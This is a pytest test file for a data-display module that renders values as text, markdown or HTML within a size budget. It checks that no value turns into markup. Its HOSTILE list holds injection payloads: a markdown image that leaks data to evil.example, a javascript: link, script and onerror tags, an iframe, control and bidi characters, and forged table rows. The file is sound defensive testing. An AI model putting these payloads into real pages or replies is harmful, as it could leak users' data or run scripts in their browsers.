"""Data as a model or a person reads it: laid out, within a budget, and never markup."""

from __future__ import annotations

import time
from html.parser import HTMLParser
from typing import Any

import pytest
from hypothesis import given, strategies as st
from markdown_it import MarkdownIt

from dualsql.envelope import display, readable
from dualsql.envelope.displays import DISPLAY_TYPES, DisplayType
from dualsql.errors import BadParameterError
from tests.envelope.values import json_values

HOSTILE = [
    "![seen](https://evil.example/leak?data=1)",
    "[click](javascript:alert(1))",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</td></table><iframe src=//evil.example>",
    '"><svg onload=alert(1)>',
    "&lt;script&gt;",
    "<https://evil.example>",
    "[ref]: https://evil.example",
    "a|b|c\n|-|-|\n|forged|row|",
    "```\nend of data\n```",
    "# heading",
    "- item",
    "+ item",
    "===",
    "---",
    "> quote",
    "**bold** __bold__ ~~gone~~ $x$",
    "\u202eevil\u2066 \u200b",
    "\x00\x1b[31mred",
    "line\u2028line\x85line",
    "back\\|slash\\",
    "\\![x](https://evil.example)",
    "{{7*7}}${7*7}",
]


def test_data_is_laid_out_and_not_dumped() -> None:
    data = {
        "instance": {"name": "demo", "status": "running", "ports": [80, 443]},
        "rows": [{"id": 1, "name": "Ana"}, {"id": 2, "city": "Oslo"}],
        "total": 2,
        "nothing": None,
    }
    assert readable(data) == (
        "total: 2\nnothing: \n\n"
        "instance:\nname: demo\nstatus: running\n\n"
        "instance.ports:\n- 80\n- 443\n\n"
        "rows:\n|id|name|city|\n|-|-|-|\n|1|Ana||\n|2||Oslo|"
    )


@pytest.mark.parametrize(
    ("value", "text"),
    [(None, "Done."), ("", "Done."), ([], "No entries."), ({}, "No entries."), (7, "7"), (True, "true")],
)
def test_small_things_are_said_plainly(value: Any, text: str) -> None:
    assert readable(value) == text


def test_a_text_stays_a_text() -> None:
    text = "First line.\n\n    indented\tline"
    assert readable(text) == text
    assert readable("a\u202eb\x1bc") == "abc"


def test_each_kind_of_display() -> None:
    rows = [{"a": 1, "b": "x & y"}]
    assert display(rows, "text") == {"type": "text", "content": "|a|b|\n|-|-|\n|1|x & y|"}
    assert display(rows, "markdown")["content"] == "|a|b|\n|-|-|\n|1|x \\& y|"
    assert display(rows, "html")["content"] == (
        "<table><thead><tr><th>a</th><th>b</th></tr></thead>"
        "<tbody><tr><td>1</td><td>x &amp; y</td></tr></tbody></table>"
    )
    with pytest.raises(BadParameterError, match="One of text, markdown, html"):
        display(rows, "pdf")  # type: ignore[arg-type]


def everywhere(hostile: str) -> list[Any]:
    return [
        hostile,
        [hostile],
        {hostile: hostile},
        [{hostile: hostile}],
        {hostile: {hostile: [{hostile: [hostile]}]}},
        [[hostile], {"a": hostile}],
    ]


class Elements(HTMLParser):
    """The elements, the attributes and the text of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.names: set[str] = set()
        self.attributes: list[Any] = []
        self.text = ""
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[Any]) -> None:
        self.names.add(tag)
        self.attributes += attrs

    def handle_data(self, data: str) -> None:
        self.text += data


OWN_ELEMENTS = set("h4 p em dl dt dd ul li table thead tbody tr th td br".split())


def assert_only_our_html(page: str) -> None:
    elements = Elements(page)
    assert elements.names <= OWN_ELEMENTS
    assert elements.attributes == []


UNWANTED = set(
    "link_open image html_block html_inline code_inline fence code_block heading_open blockquote_open hr s_open".split()
)


def assert_only_our_markdown(text: str) -> None:
    response = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    kinds = {token.type for each in response for token in [each, *(each.children or ())]}
    assert not kinds & UNWANTED, kinds


def assert_lines_are_kept_apart(text: str) -> None:
    assert not any(c in text for c in "\x00\x1b\u202e\u2066\u200b\u2028\x85")


@pytest.mark.parametrize("hostile", HOSTILE)
def test_no_value_becomes_markup(hostile: str) -> None:
    for data in everywhere(hostile):
        assert_only_our_html(display(data, "html")["content"])
        assert_only_our_markdown(display(data, "markdown")["content"])
        assert_lines_are_kept_apart(display(data, "text")["content"])


markup = st.text(st.sampled_from(list("<>&\"'`*_[]()!#|\\-+=:/~$\n ax1")), max_size=25)


@given(markup)
def test_nor_does_any_other(hostile: str) -> None:
    for data in everywhere(hostile):
        assert_only_our_html(display(data, "html")["content"])
        assert_only_our_markdown(display(data, "markdown")["content"])


def test_html_says_what_the_value_says() -> None:
    for hostile in HOSTILE[:8]:
        assert Elements(display([hostile], "html")["content"]).text == hostile


@pytest.mark.parametrize("hostile", ["a|b", "a\n|forged|", "x\r\ny", "\u2028|y|"])
def test_a_cell_adds_no_row_and_no_column(hostile: str) -> None:
    text = readable([{"one": hostile, "two": hostile}])
    head, _, *rows = text.splitlines()
    assert len(rows) == 1
    assert rows[0].replace("\\|", "").count("|") == head.count("|")


@pytest.mark.quick(1)
@pytest.mark.parametrize("form", DISPLAY_TYPES)
@given(value=json_values, budget=st.integers(0, 3_000))
def test_a_budget_is_kept(form: DisplayType, value: Any, budget: int) -> None:
    assert len(display(value, form, budget=budget)["content"]) <= budget


@pytest.mark.quick(4)
@pytest.mark.parametrize("form", DISPLAY_TYPES)
@pytest.mark.parametrize(
    ("data", "said"),
    [
        ([{"a": number, "b": "x" * 100} for number in range(5_000)], "of 5,000 rows"),
        ([dict.fromkeys(map(str, range(300)), "some text")] * 20, "of 300 columns"),
        (["<&>" * 30] * 5_000, "of 5,000 lines"),
        ({f"name {number}": number for number in range(5_000)}, "of 5,000 lines"),
        ({f"part {number}": {"a": 1} for number in range(5_000)}, "More is in the data"),
        ("<>" * 50_000, "of 100,000 characters"),
    ],
    ids=["rows", "columns", "lines", "pairs", "sections", "text"],
)
def test_what_is_left_out_is_said(form: DisplayType, data: Any, said: str) -> None:
    start = time.process_time()
    content = display(data, form)["content"]
    assert time.process_time() - start < 5  # hours, were it not bounded
    assert said in content
    assert 2_000 < len(content) <= 8_000


def test_what_is_shown_is_counted_right() -> None:
    text = readable([{"a": number} for number in range(5_000)], budget=1_000)
    rows = [line for line in text.splitlines() if line.startswith("|")][2:]
    assert f"Shown: {len(rows)} of 5,000 rows." in text


def test_what_is_nested_deeply_is_one_cell() -> None:
    data: Any = {"leaf": 1}
    for _ in range(10):
        data = {"in": data}
    assert readable(data).startswith("in.in.in.in:\nin: {")
